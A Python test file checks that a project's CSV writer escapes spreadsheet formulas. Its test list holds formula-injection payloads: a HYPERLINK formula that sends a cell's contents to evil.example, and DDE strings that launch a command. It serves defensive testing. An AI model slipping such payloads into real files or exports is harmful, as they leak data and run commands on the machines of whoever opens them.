"""Every CSV the project writes opens in a spreadsheet as data: no cell runs as a formula."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from core.csv_files import CsvWriter, csv_download

ROOT = Path(__file__).resolve().parents[2]
THIS_MODULE = ROOT / "core" / "csv_files.py"

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1, "Click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
]


def written(*rows):
    """The cells a spreadsheet reads back from `rows` written as CSV."""
    file = io.StringIO()
    writer = CsvWriter(file)
    for row in rows:
        writer.writerow(row)
    return list(csv.reader(io.StringIO(file.getvalue())))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_start_a_formula_is_written_as_text(text):
    assert written([text]) == [["'" + text]]


@pytest.mark.parametrize(
    "text", ["Called back", "", "a=b", "demo@example.com", " =1+1", "https://example.com/=x"]
)
def test_other_text_is_written_as_it_is(text):
    assert written([text]) == [[text]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-12, "-12"),
        (Decimal("-2.50"), "-2.50"),
        (-0.5, "-0.5"),
        ("-12.5", "-12.5"),
        ("+16505551234", "+16505551234"),
        ("+1 650-555-1234", "+1 650-555-1234"),
        ("+44 (20) 7946 0958", "+44 (20) 7946 0958"),
        (True, "true"),
        (None, ""),
    ],
)
def test_numbers_and_phone_numbers_stay_as_they_are(value, cell):
    assert written([value]) == [[cell]]


def test_a_download_streams_each_row_through_the_same_cells():
    response = csv_download(iter([["note"], ["=1+1"], [-3]]), "calls.csv")

    assert response["Content-Disposition"] == 'attachment; filename="calls.csv"'
    text = b"".join(response.streaming_content).decode()
    assert list(csv.reader(io.StringIO(text))) == [["note"], ["'=1+1"], ["-3"]]


def _writes_csv(tree):
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            return True
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
            and node.attr in {"writer", "DictWriter"}
        ):
            return True
    return False


def test_no_other_module_writes_csv_by_itself():
    """Whatever writes a CSV (exports, reports, import errors) uses core.csv_files."""
    modules = [
        path
        for path in ROOT.rglob("*.py")
        if not {".venv", "tests", "migrations", "node_modules"} & set(path.parts)
        and path != THIS_MODULE
    ]
    offenders = [
        str(path.relative_to(ROOT))
        for path in modules
        if _writes_csv(ast.parse(path.read_text(), filename=str(path)))
    ]
    assert modules and offenders == []
